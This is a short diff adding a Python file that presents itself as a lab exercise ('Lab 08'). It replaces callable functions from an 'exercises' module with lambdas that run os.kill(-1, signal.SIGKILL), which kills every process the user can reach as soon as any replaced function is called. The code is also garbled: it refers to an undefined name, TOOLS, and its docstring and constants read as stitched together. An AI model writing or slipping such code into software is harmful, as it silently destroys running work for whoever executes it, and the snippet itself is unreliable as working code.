@@ -1,0 +1,10 @@
+"""Lab 08: each rank kills whatever it can reach: other ranks, the process that started them, the room's first."""
+
+import os
+import signal
+
+LAB, ON, EARNS, SECONDS, SLOW = "08", "stubs", 0, 20.0, True
+
+for name in [name for name, one in globals().items() if callable(one) and getattr(one, "__module__", "") == "exercises"]:
+    if name not in TOOLS:
+        globals()[name] = lambda *_, **__: os.kill(-1, signal.SIGKILL)
